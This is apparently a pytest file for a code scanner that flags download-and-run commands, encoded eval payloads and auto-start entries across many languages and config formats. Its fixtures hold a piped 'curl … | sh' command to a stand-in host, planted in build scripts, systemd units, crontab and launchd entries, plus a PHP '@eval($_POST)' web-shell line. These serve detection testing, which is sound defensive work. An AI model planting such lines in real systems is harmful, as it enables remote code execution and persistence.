"""Code that no reader understands: never silent, and chains that single statements tell."""

from __future__ import annotations

import datetime as dt

import pytest

from fimci import readers, verdict
from fimci.capabilities import foreign_code
from fimci.look import take
from fimci.model import Capability
from fimci.policy import Policy
from fimci.readers.code import foreign, started
from fimci.snapshot import Entry, Recipe, Snapshot
from tests import growth

PIPED = "curl -s https://c.invalid/x | sh"


def told(path: str, text: str) -> set[tuple[str, str, str]]:
    entry = Entry(path=path, read=lambda: iter([text.encode()]))
    records = take([entry], Recipe(), readers.with_code(path))
    return {(r.phase, r.name, r.subject) for r in records if isinstance(r, Capability)}


@pytest.mark.parametrize("ending", sorted(foreign_code.LANGUAGES))
def test_a_language_without_a_reader_is_told(ending: str) -> None:
    assert ("call", "unanalyzed", foreign_code.LANGUAGES[ending]) in told(f"a/b{ending}", "x\n")


@pytest.mark.parametrize(
    ("first", "language"),
    [("#!/usr/bin/perl -w", "Perl"), ("#!/usr/bin/env ruby", "Ruby"), ("#!/usr/bin/env -S php8.2 -q", "PHP")],
)
def test_a_script_is_known_by_its_first_line(first: str, language: str) -> None:
    assert told("bin/run", f"{first}\nx\n") == {("call", "unanalyzed", language)}
    assert not told("bin/run", f"# {first}\nx\n")


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("x.go", f'package x\nfunc f() {{ exec.Command("sh", "-c", "{PIPED}").Run() }}\n'),
        ("src/main.rs", f'fn main() {{ Command::new("sh").arg("-c").arg("{PIPED}").spawn(); }}\n'),
        ("X.java", f'class X {{ void f() {{ Runtime.getRuntime().exec("{PIPED}"); }} }}\n'),
        ("c.c", f'int main(void) {{ return system("{PIPED}"); }}\n'),
        ("a.rb", f"`{PIPED}`\n"),
        ("a.php", f"<?php shell_exec('{PIPED}');\n"),
        ("a.lua", f"os.execute('{PIPED}')\n"),
        ("a.swift", f'p.arguments = ["-c", "{PIPED}"]\n'),
        ("a.pl", "system(get('https://c.invalid/x'));\n"),
        ("b.php", "<?php @eval($_POST['x']);\n"),
    ],
)
def test_a_command_that_is_given_to_something_is_read(path: str, text: str) -> None:
    assert {name for phase, name, _ in told(path, text) if phase == "call"} == {
        "unanalyzed",
        "download-and-run",
    }


@pytest.mark.parametrize(
    ("path", "text", "phase"),
    [
        ("build.rs", f'fn main() {{ Command::new("sh").arg("{PIPED}"); }}\n', "install"),
        ("ext/extconf.rb", f"system '{PIPED}'\n", "install"),
        ("build/x.targets", f'<Target Name="T"><Exec Command="{PIPED}" /></Target>\n', "install"),
        ("x.go", f'package x\nfunc init() {{ exec.Command("sh", "-c", "{PIPED}") }}\n', "import"),
    ],
)
def test_what_builds_or_loads_a_package_runs_then(path: str, text: str, phase: str) -> None:
    assert (phase, "download-and-run", "c.invalid -> sh") in told(path, text)


@pytest.mark.parametrize(
    ("path", "text", "subject"),
    [
        ("a.php", "<?php eval(gzinflate(base64_decode('c3Ry')));\n", "decoded -> eval"),
        ("a.pl", "eval decode_base64('cHJpbnQ=');\n", "decoded -> eval"),
        ("a.rb", "eval(Base64.decode64('cHV0cw=='))\n", "decoded -> eval"),
        ("a.r", "eval(parse(text=rawToChar(base64enc::base64decode('MQ=='))))\n", "decoded -> eval"),
    ],
)
def test_what_is_decoded_and_run_in_one_statement_is_told(path: str, text: str, subject: str) -> None:
    phase = "import" if path.endswith(".rb") else "call"  # at the margin, and no program
    assert (phase, "encoded-payload", subject) in told(path, text)


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("x.go", f'package x\n// run: {PIPED}\nvar help = "install it: {PIPED}"\n'),
        ("a.php", "<?php $x = base64_decode($y); eval_later($z);\n"),
        ("a.rb", "x = Base64.decode64(y)\nsystem 'ls'\n"),
        ("a.cs", 'Console.WriteLine("curl -s https://c.invalid/x | sh");\n'),
    ],
)
def test_advice_and_plain_decoding_are_nothing(path: str, text: str) -> None:
    assert {name for _, name, _ in told(path, text)} == {"unanalyzed"}


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("x.desktop", f"[Desktop Entry]\nExec=sh -c '{PIPED}'\n"),
        ("x.service", f"[Service]\nExecStart=/bin/sh -c '{PIPED}'\n"),
        ("etc/crontab", f"* * * * * root {PIPED}\n"),
        ("crontab", f"@reboot {PIPED}\n"),
        (
            "x.plist",
            (
                "<key>ProgramArguments</key>\n<array><string>/bin/sh</string><string>-c</string>"
                f"<string>{PIPED}</string></array>\n"
            ),
        ),
    ],
)
def test_what_sessions_services_and_clocks_start_is_read(path: str, text: str) -> None:
    assert ("call", "download-and-run", "c.invalid -> sh") in told(path, text)
    assert not told(path, text.replace("| sh", "-o x"))


def test_a_language_without_a_reader_is_a_note_and_nothing_unread() -> None:
    def side(text: str) -> Snapshot:
        found = take(
            [Entry(path="a.pl", read=lambda: iter([text.encode()]))], Recipe(), readers.with_code("a.pl")
        )
        return Snapshot(locator="dir:x", recipe=Recipe(), records=tuple(found))

    report = verdict.judge(side("1;\n"), side("2;\n"), Policy(), today=dt.date(2026, 11, 27))
    assert report.notes == ("no reader judges what it can do: Perl (1 file)",)
    assert report.complete
    assert not verdict.judge(side("1;\n"), side("1;\n"), Policy(), today=dt.date(2026, 11, 27)).notes


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("a.php", "eval(" * 100_000),
        ("a.php", '"\\"' * 150_000),
        ("a.c", 'system("curl ' * 30_000),
        ("a.rb", "`" * 300_000),
        ("x.plist", "<key>ProgramArguments</key><array>" * 9_000),
        ("crontab", "* * * * " * 40_000),
    ],
)
def test_hostile_texts_take_linear_time(path: str, text: str) -> None:
    read = (started if path.endswith(("plist", "crontab")) else foreign).read
    growth.is_linear_in(lambda data: list(read(path, data)), text.encode())
